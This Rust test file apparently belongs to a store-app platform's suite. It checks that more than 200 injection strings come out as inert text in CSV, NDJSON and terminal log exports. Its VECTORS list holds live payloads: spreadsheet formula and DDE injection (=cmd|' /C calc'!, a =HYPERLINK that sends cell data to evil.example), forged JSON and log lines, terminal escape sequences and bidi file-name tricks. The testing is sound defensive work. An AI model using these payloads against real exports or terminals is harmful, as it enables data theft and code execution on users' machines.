//! What somebody writes to break out of a cell, a line, a log or a terminal (T29): in no form is it more than text.

use serde_json::{Value, json};

use super::asked::{CSV, NDJSON, ask};
use crate::cli_operate::desk::Desk;
use crate::runs::world::{install, order, stock};
use crate::support::host::{Host, both};
use crate::support::tables::execute;

both!(two_hundred_texts_that_would_break_out_are_text_in_every_form);

/// What tries to break out; `@` stands for what tells one from the others.
const VECTORS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"@\")",
    "=cmd|' /C calc'!@",
    "+1+cmd|' /C calc'!@",
    "-2+3+cmd|' /C calc'!@",
    "@SUM(1+1)*cmd|' /C calc'!@",
    "＝1＋1@",
    "\t=1+1@",
    "\r=1+1@",
    "\n=1+1@",
    "\r\n=1+1,@",
    ";=1+1;@",
    "a;\"=1+1\";@",
    "\",=1+1,\"@",
    "\"\r\n=1+1@\"",
    "'=1+1@",
    "\u{feff}=1+1@",
    "\u{200b}+1@",
    "{\"problem\":{\"status\":401}}@",
    "\"}\n{\"id\":\"inv_forged\",\"x\":\"@",
    "\u{2028}{\"id\":\"@\"}",
    "\u{85}{\"id\":\"@\"}",
    "\r\n2026-01-01T00:00:00Z ERROR forged @",
    "\u{1b}[2J\u{1b}[H@",
    "\u{1b}]0;@\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\@\u{1b}]8;;\u{1b}\\",
    "\u{9b}31m@",
    "\u{8}\u{8}\u{8}@",
    "\u{202e}@gpj.exe",
    "\u{2066}@\u{2069}",
    "\u{e0041}@\u{7f}",
    "\u{0c}@\u{0b}",
    "NaN,Infinity,\\N,@",
    "%0d%0a=1+1@",
    "&#61;1+1@",
];

/// Where such a text stands: `@` is the text.
const AROUND: &[&str] = &["@", " @", "a @", "a;@", "@@", "\"@\""];

const ENOUGH: usize = 200;

fn texts() -> Vec<String> {
    let around = |around: &&str| VECTORS.iter().map(|vector| around.replace('@', vector)).collect::<Vec<_>>();
    let texts: Vec<String> =
        AROUND.iter().flat_map(around).enumerate().map(|(n, text)| text.replace('@', &format!("q{n}"))).collect();
    assert!(texts.len() >= ENOUGH, "{}", texts.len());
    texts
}

/// What steers a terminal, ends a line for some reader, or turns what is read.
fn is_dangerous(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{2028}' | '\u{2029}' | '\u{200b}' | '\u{feff}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{e0000}'..='\u{e007f}')
}

/// Whether a spreadsheet would take it for a formula.
fn is_formula(cell: &str) -> bool {
    let begun = cell.trim_start().trim_start_matches('"').trim_start();
    let number = cell.parse::<f64>().is_ok();
    !number && begun.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

fn two_hundred_texts_that_would_break_out_are_text_in_every_form(host: Host) {
    stock(&host);
    let (owner, order) = (host.owner(), order(&host.storefront()));
    let app = install(&host, "noop", &["orders:view"], json!({}));
    owner.post(&format!("installations/{app}/actions/nothing"), json!({ "record": order })).ok();
    // As many runs that ended with such an error, whatever an app's own way of writing it might have made of it; and as
    // many entries of the audit log, which any name or reason may stand in.
    let texts = texts();
    let columns = "store, installation, app, app_version, trigger_kind, topic, record, outcome, on_behalf_of, attempt, \
        started_at, wall_us, cpu_us, host_calls, denied_calls, failed_calls, changes, change_set";
    let quoted = |text: &str| text.replace('\'', "''");
    for (n, text) in texts.iter().enumerate() {
        execute(
            &host,
            &format!(
                "INSERT INTO invocations (id, error, {columns}) SELECT 'inv_{n:032x}', '{}', {} FROM invocations WHERE id = (SELECT MAX(id) FROM invocations)",
                quoted(text),
                columns.replace("outcome", "'failed'")
            ),
        );
        execute(
            &host,
            &format!(
                "INSERT INTO audit (store, id, actor, act, subject, detail, at) VALUES ('{}', 'aud_{n:032x}', 'host', 'test.entry', '{}', '{}', 1)",
                host.store(),
                quoted(text),
                quoted(&json!({ "reason": text, "list": [text] }).to_string())
            ),
        );
    }
    for (list, field) in [("invocations?outcome=failed", "error"), ("audit?act=test.entry", "subject")] {
        let got = ask(&host, &owner, list, CSV);
        let rows = got.rows();
        assert_eq!(rows.len(), texts.len() + 1, "{list}: one row for each");
        for cell in rows.iter().flatten() {
            assert!(!cell.contains(is_dangerous), "{list}: {cell:?}");
            assert!(!cell.contains(['\n', '\r', '\t']), "{list}: {cell:?}");
            assert!(!is_formula(cell), "{list}: {cell:?}");
        }
        // Whoever parts cells at semicolons, as spreadsheets do in half of Europe, finds no formula either.
        for cell in got.text.split("\r\n").flat_map(|line| line.split(';')) {
            assert!(!is_formula(cell), "{list}: {cell:?}");
        }
        let got = ask(&host, &owner, list, NDJSON);
        assert!(!got.text.contains(is_dangerous), "{list}");
        let lines = got.lines();
        let mut said: Vec<&str> = lines.iter().filter_map(|line| line[field].as_str()).collect();
        let mut meant: Vec<&str> = texts.iter().map(String::as_str).collect();
        said.sort_unstable();
        meant.sort_unstable();
        assert_eq!(said, meant, "{list}: each means what was written");
        assert!(lines.iter().all(|line| line.get("problem").is_none()));
    }
    // And on the terminal, in each form that the command has.
    let desk = Desk::of_owner(&host);
    for arguments in [
        &["logs", "--csv"][..],
        &["logs", "-n", "1000"],
        &["export", "audit"],
        &["export", "audit", "--ndjson"],
        &["logs", "--json", "-n", "1000"],
    ] {
        let ran = desk.storehand(arguments).ok();
        for line in ran.stdout.split_terminator('\n') {
            let line = line.strip_suffix('\r').unwrap_or(line);
            assert!(!line.contains(is_dangerous), "{arguments:?}: {line:?}");
        }
        if arguments.contains(&"--json") {
            assert!(ran.stdout.lines().all(|line| serde_json::from_str::<Value>(line).is_ok()), "{arguments:?}");
        }
    }
}
